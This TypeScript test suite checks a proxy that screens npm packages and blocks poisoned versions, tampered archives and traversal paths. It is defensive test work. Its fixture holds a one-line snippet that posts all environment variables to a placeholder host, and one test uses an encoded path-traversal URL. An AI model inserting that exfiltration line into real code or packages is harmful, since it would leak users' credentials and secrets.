import assert from 'node:assert/strict'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import { library, manifest, with_ } from '../../doors/packages/incidents/incident.ts'
import { PackageGuard, type GuardSettings } from '../../jobs/packages/guard.ts'
import { scanRules, type PackageVerdict } from '../../jobs/packages/judge-package.ts'
import { registryAt } from '../../jobs/packages/registry.ts'
import { registryProxy } from './proxy.ts'
import { fakeRegistry, type FakeRegistry } from './testing/fake-registry.ts'

const rules = scanRules()
const theft = "require('https').request({ hostname: 'x.example', method: 'POST' }).end(JSON.stringify(process.env));"
let upstream: FakeRegistry
const stops: (() => Promise<unknown>)[] = []

before(async () => {
  upstream = await fakeRegistry()
})
after(async () => {
  for (const stop of stops) await stop()
  await upstream.stop()
})

async function guarding(more: Partial<GuardSettings> = {}): Promise<string> {
  const registry = registryAt(upstream.url)
  const held = new Map<string, PackageVerdict>()
  const cache = {
    get: (key: string) => held.get(key) ?? null,
    set: (key: string, value: PackageVerdict) => void held.set(key, value),
  }
  const guard = new PackageGuard({ registry, rules, from: 'hold', unassessed: 'closed', cache, ...more })
  let url = ''
  const server = registryProxy({ registry, guard, url: () => url, say: () => undefined })
  await new Promise<void>((up) => server.listen(0, '127.0.0.1', up))
  stops.push(() => new Promise((closed) => (server.closeAllConnections(), server.close(closed))))
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return url
}

const good = (name: string, version: string) => ({ 'package.json': manifest(name, version), 'index.js': library })
const bad = (name: string, version: string) => ({ 'package.json': manifest(name, version), 'index.js': with_(theft) })
const packumentOf = async (url: string, name: string) =>
  (await (await fetch(`${url}/${name}`)).json()) as {
    versions: Record<string, { dist: { tarball: string } }>
    'dist-tags': Record<string, string>
    _sallyport?: { held: Record<string, string> }
  }

test('a poisoned version is refused with its finding, and then no longer listed', async () => {
  upstream.publish('lib-a', '1.4.0', good('lib-a', '1.4.0'))
  upstream.publish('lib-a', '1.4.1', bad('lib-a', '1.4.1'))
  const url = await guarding()
  const listed = await packumentOf(url, 'lib-a')
  assert.deepEqual(Object.keys(listed.versions), ['1.4.0', '1.4.1'])
  assert.equal(listed.versions['1.4.1']?.dist.tarball, `${url}/lib-a/-/lib-a-1.4.1.tgz`)

  const refused = await fetch(`${url}/lib-a/-/lib-a-1.4.1.tgz`)
  assert.equal(refused.status, 403)
  const said = (await refused.json()) as {
    error: string
    findings: { rule: string; places: { file: string; line: number }[] }[]
  }
  assert.match(said.error, /lib-a@1\.4\.1/)
  assert.ok(
    said.findings.some((one) => one.rule === 'packages/inserted-env-theft' && one.places[0]?.file === 'index.js'),
  )

  const after_ = await packumentOf(url, 'lib-a')
  assert.deepEqual(Object.keys(after_.versions), ['1.4.0'])
  assert.equal(after_['dist-tags']['latest'], '1.4.0')
  assert.match(after_._sallyport?.held['1.4.1'] ?? '', /packages\//)
})

test('a good version passes unchanged, and only once over the judge', async () => {
  upstream.publish('@team/lib-b', '2.0.0', good('@team/lib-b', '2.0.0'))
  const url = await guarding()
  const first = await fetch(`${url}/@team%2flib-b/-/lib-b-2.0.0.tgz`)
  assert.equal(first.status, 200)
  const direct = Buffer.from(await (await fetch(`${upstream.url}/@team/lib-b/-/lib-b-2.0.0.tgz`)).arrayBuffer())
  assert.deepEqual(Buffer.from(await first.arrayBuffer()), direct)
  const again = await fetch(`${url}/@team/lib-b/-/lib-b-2.0.0.tgz`)
  assert.deepEqual(Buffer.from(await again.arrayBuffer()), direct)
})

test('lies: other bytes than announced, another name inside, an archive by a way round', async () => {
  upstream.publish('lib-c', '1.0.0', good('lib-c', '1.0.0'))
  upstream.tamper('lib-c', '1.0.0', bad('lib-c', '1.0.0'))
  upstream.publish('lib-d', '1.0.0', good('quite-another', '1.0.0'))
  const url = await guarding()
  const tampered = await fetch(`${url}/lib-c/-/lib-c-1.0.0.tgz`)
  assert.equal(tampered.status, 403)
  assert.match(((await tampered.json()) as { error: string }).error, /hash differs/)
  assert.equal((await fetch(`${url}/lib-d/-/lib-d-1.0.0.tgz`)).status, 403)
  assert.equal((await fetch(`${url}/download/lib-c/1.0.0.tgz`)).status, 404)
  assert.equal((await fetch(`${url}/..%2f..%2fetc/-/x-1.0.0.tgz`)).status, 404)
  assert.equal((await fetch(`${url}/%E0%A4%A`)).status, 400)
})

test('what cannot be assessed is kept away, or passes with a mark, as the policy says', async () => {
  upstream.publish('lib-e', '1.0.0', good('lib-e', '1.0.0'))
  const cases = [
    ['closed', 403],
    ['open', 200],
  ] as const
  for (const [unassessed, status] of cases) {
    const url = await guarding({
      unassessed,
      rules: {
        ...rules,
        book: {
          ...rules.book,
          judge: () => {
            throw new Error('broken')
          },
        },
      } as never,
    })
    const answer = await fetch(`${url}/lib-e/-/lib-e-1.0.0.tgz`)
    assert.equal(answer.status, status)
    if (status === 200) assert.equal(answer.headers.get('x-sallyport'), 'not assessed')
  }
})

test('known bad versions, accepted findings', async () => {
  upstream.publish('lib-f', '1.4.0', good('lib-f', '1.4.0'))
  upstream.publish('lib-f', '1.4.1', bad('lib-f', '1.4.1'))
  const listed = await packumentOf(
    await guarding({
      knownBad: (name, version) => (name === 'lib-f' && version === '1.4.0' ? 'MAL-2026-1: reported' : null),
    }),
    'lib-f',
  )
  assert.equal(listed._sallyport?.held['1.4.0'], 'MAL-2026-1: reported')
  const accepting = await guarding({ accepted: (name) => name === 'lib-f' })
  assert.equal((await fetch(`${accepting}/lib-f/-/lib-f-1.4.1.tgz`)).status, 200)
})

test('the registry is down or has no such package', async () => {
  const url = await guarding()
  assert.equal((await fetch(`${url}/nobody-called-so`)).status, 404)
  upstream.fail(500)
  assert.equal((await fetch(`${url}/lib-z`)).status, 502)
  assert.equal((await fetch(`${url}/-/v1/search?text=x`)).status, 500)
  upstream.fail(null)
})
